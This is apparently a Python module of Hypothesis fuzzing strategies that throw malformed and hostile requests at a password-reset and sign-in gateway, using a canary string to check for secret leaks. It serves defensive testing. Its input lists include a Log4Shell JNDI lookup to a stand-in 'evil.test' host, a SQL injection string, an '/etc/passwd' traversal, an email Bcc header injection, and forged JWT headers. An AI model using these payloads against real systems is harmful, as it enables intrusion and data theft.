"""Events that a caller can make the gateway send, and some that it never would."""

import base64
import json
from typing import Any

from hypothesis import strategies as st

from infra.routes import ROUTES, Route

CANARY = "canary-6Zq"
"""Stands in whatever is secret or private: it must be in no log line, metric or answer."""
LIVE_TOKEN, LIVE_FLOW, LIVE_CODE, LIVE_SESSION = "<live token>", "<live flow>", "<live code>", "<live session>"
LIVE_REPORT = "<live report>"
"""Replaced by ones that work, so that hostile requests get behind the first check."""

type Strategy = st.SearchStrategy[Any]

MEMBERS = {
    "/auth/forgot-password": {"email": "demo@example.com", "locale": "de", "channel": "email"},
    "/auth/verify-reset-token": {"token": LIVE_TOKEN},
    "/auth/verify-reset-code": {"flow": LIVE_FLOW, "code": LIVE_CODE},
    "/auth/reset-password": {"token": LIVE_TOKEN, "newPassword": f"{CANARY} otters read"},
    "/auth/report-change": {"token": LIVE_REPORT, "email": "demo@example.com"},
    "/auth/sign-in": {"email": "demo@example.com", "password": f"{CANARY} horse battery"},
}

# Hypothesis leaves surrogates out of text unless told.
texts = st.text(st.characters(), max_size=80) | st.text(st.characters(categories=["Cs", "Cc", "Cf", "Zl"]), max_size=5)
secret_texts = texts.map(lambda text: CANARY + text)
odd_texts = st.sampled_from(
    [
        "",
        "\0",
        "\ud800",
        "\udc00\ud800",
        "a\r\nb: c",
        f"{CANARY}\0@example.com",
        f"{CANARY}@example.com\r\nBcc: evil@example.com",
        f"{CANARY}@b\u00fccher.example",
        f"{CANARY}@xn--a.example",
        f"\u0130{CANARY}@example.com",
        f" {CANARY}@example.com ",
        CANARY + "x" * 9000,
        CANARY + "\u0301" * 3000,
        CANARY + "\U0001f600" * 40,
        CANARY + "\ufdfa" * 400,  # NFKC makes eighteen letters of it
        "A" * 43,
        "A" * 22,
        "12345678",
        "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
        "{{7*7}}",
        "${jndi:ldap://evil.test}",
        "' OR '1'='1",
        "../../etc/passwd",
    ]
)
strings = texts | secret_texts | odd_texts | st.emails()
values = (
    strings
    | st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.lists(secret_texts, max_size=3)
    | st.dictionaries(secret_texts, strings, max_size=3)
)
documents = st.recursive(values, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3))
raw_bodies = st.sampled_from(
    [None, "", "{", "\ufeff{}", "[" * 8000, '{"a":' * 1600, '{"email": ' + "9" * 8000 + "}", '{"a": 1e999999}', "{} {}"]
)


@st.composite
def objects(draw: st.DrawFn, path: str) -> str:
    """Return the JSON of nearly the right object: members missing, extra, twice, or of hostile values."""
    valid = MEMBERS[path]
    members: list[tuple[str, Any]] = []
    for name, value in valid.items():
        match draw(st.sampled_from(["right", "right", "right", "text", "hostile", "missing", "twice"])):
            case "right":
                members.append((name, value))
            case "text":
                members.append((name, draw(strings)))
            case "hostile":
                members.append((name, draw(values)))
            case "twice":
                members += [(name, value), (name, draw(values))]
    if draw(st.integers(0, 5)) == 0:
        members.append((draw(secret_texts | st.sampled_from(["__proto__", "newpassword", ""])), draw(values)))
    escaped = draw(st.booleans())
    pairs = (f"{json.dumps(n, ensure_ascii=escaped)}: {json.dumps(v, ensure_ascii=escaped)}" for n, v in members)
    return "{" + ", ".join(pairs) + "}"


def bodies(path: str) -> Strategy:
    """Bodies of a route, as the gateway gives them: text or base64, and whether it says base64."""
    others = raw_bodies | texts | documents.map(json.dumps)
    if path not in MEMBERS:
        return st.tuples(others, st.booleans())
    near = objects(path)
    encoded = near.map(lambda text: base64.b64encode(text.encode("utf-8", "surrogatepass")).decode())
    return st.one_of(
        near.map(lambda text: (text, False)),
        near.map(lambda text: (text, False)),
        near.map(lambda text: (text, False)),
        encoded.map(lambda text: (text, True)),
        st.binary(max_size=60).map(lambda raw: (base64.b64encode(raw).decode(), True)),
        st.tuples(others, st.booleans()),
    )


parameters = st.sampled_from(
    [
        "charset=utf-8",
        'charset="UTF8"',
        "charset=latin1",
        "charset=",
        "charset*=utf-8''utf-8",
        "charset*=no-such''utf-8",
        "charset*0*=''u; charset*1=tf-8",
        "charset*1=x",
        "charset=\udcff",
        'charset="',
        "boundary=x",
        "q=0.5",
        "*=",
        "=;=",
    ]
) | texts.map(lambda text: f"charset={text}")
content_types = st.one_of(
    st.just("application/json"),
    st.just("application/json"),
    st.just("application/json"),
    st.builds("{}{}{}".format, st.sampled_from(["application/json", "APPLICATION/JSON "]), st.just(";"), parameters),
    st.sampled_from(["", "application/jsonx", "text/json", "json", "*/*", "application/json, text/plain"]),
    strings,
)
bearers = st.one_of(
    st.just(f"Bearer {LIVE_SESSION}"),
    secret_texts.map(lambda text: f"Bearer {text}"),
    st.lists(st.binary(max_size=40).map(base64.urlsafe_b64encode), min_size=3, max_size=3).map(
        lambda parts: "bearer " + ".".join(part.decode().rstrip("=") for part in parts)
    ),
    st.dictionaries(st.sampled_from(["alg", "kid", "typ", "crit", "b64", "jwk"]), values, max_size=4).map(
        lambda header: f"Bearer {base64.urlsafe_b64encode(json.dumps(header).encode()).decode().rstrip('=')}.e30.AAAA"
    ),
    st.just(f"Bearer {LIVE_SESSION}x"),
    st.just(f"Basic {LIVE_SESSION}"),
    strings,
)
NAMES = {
    "Content-Type": content_types,
    "Authorization": bearers,
    "Origin": st.sampled_from(["null", "https://evil.test", "http://localhost:8000", ""]) | strings,
    "User-Agent": strings,
    "X-Forwarded-For": strings,
    "Host": strings,
}


@st.composite
def headers(draw: st.DrawFn) -> dict[str, str] | None:
    """Return headers, names in any case, some missing; None is how the gateway says that there are none."""
    if draw(st.integers(0, 30)) == 0:
        return None
    chosen = {}
    for name, of_name in NAMES.items():
        if name == "Content-Type" or draw(st.booleans()):
            spelled = draw(st.sampled_from([name, name, name.lower(), name.upper(), name.swapcase()]))
            chosen[spelled] = draw(of_name)
    return chosen


sources = st.one_of(
    st.ip_addresses().map(str),
    st.ip_addresses(v=4).map(lambda address: f"::ffff:{address}"),
    st.sampled_from(["test-invoke-source-ip", "fe80::1%eth0", "::", "", "1.2.3.4, 5.6.7.8", "01.2.3.4"]),
)


@st.composite
def gateway_events(draw: st.DrawFn, route: Route) -> dict[str, Any]:
    """Return what a caller can make the gateway send."""
    body, is_base64 = draw(bodies(route.path))
    return {
        "resource": route.path,
        "path": route.path,
        "httpMethod": route.method,
        "headers": draw(headers()),
        "queryStringParameters": draw(st.none() | st.dictionaries(secret_texts, strings, max_size=2)),
        "requestContext": {"requestId": draw(secret_texts), "identity": {"sourceIp": draw(sources)}},
        "body": body,
        "isBase64Encoded": is_base64,
    }


@st.composite
def impossible_events(draw: st.DrawFn, route: Route) -> dict[str, Any]:
    """Return what no gateway sends: an event with a part taken away, or of another kind."""
    event = draw(gateway_events(route))
    for name in draw(st.lists(st.sampled_from(["headers", "requestContext", "body", "isBase64Encoded"]), min_size=1)):
        if draw(st.booleans()):
            event.pop(name, None)
        else:
            event[name] = draw(documents)
    return event


HANDLED = {route.function: route for route in ROUTES if route.function}


@st.composite
def messages(draw: st.DrawFn, good: dict[str, Any]) -> str:
    """Return a queue message that nobody should have put there, like a good one or not."""
    match draw(st.sampled_from(["near", "near", "near", "document", "text"])):
        case "text":
            return draw(texts | secret_texts)
        case "document":
            return json.dumps(draw(documents))
    # Of nobody's address: what is well-formed is somebody's request, and served. Ids are no secrets: they are logged.
    message: dict[str, Any] = good | {"email": f"{CANARY}@example.net"}
    times = st.sampled_from(["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-11-20T22:43:16", -1e300, "soon"])
    for name in draw(st.lists(st.sampled_from(sorted(message)), min_size=1, max_size=3)):
        if name == "requestId":
            message[name] = draw(texts)
        elif draw(st.booleans()):
            message[name] = draw(values | times)
        else:
            message.pop(name, None)
    if draw(st.booleans()):
        kind = draw(st.sampled_from(["password-changing", "change-disputing"]))
        message |= {"type": kind, "userId": draw(texts), "name": draw(strings)}
        message |= {"state": draw(strings), "frozenUntil": draw(times | values)}
        message["tokenHash"] = draw(strings)
        message = {name: value for name, value in message.items() if name not in {"flow", "channel"}}
    return json.dumps(message)


@st.composite
def reports(draw: st.DrawFn, sample: dict[str, Any]) -> dict[str, Any]:
    """Return an event of Amazon SES with parts taken away or of other values, at any depth."""
    event: dict[str, Any] = json.loads(json.dumps(sample))
    for _ in range(draw(st.integers(1, 4))):
        at: Any = event
        while True:
            keys = sorted(at) if isinstance(at, dict) else list(range(len(at)))
            if not keys:
                break
            key = draw(st.sampled_from(keys))
            if isinstance(at[key], dict | list) and draw(st.integers(0, 3)):
                at = at[key]
                continue
            if draw(st.integers(0, 3)):
                at[key] = draw(values)
            else:
                del at[key]
            break
    return event
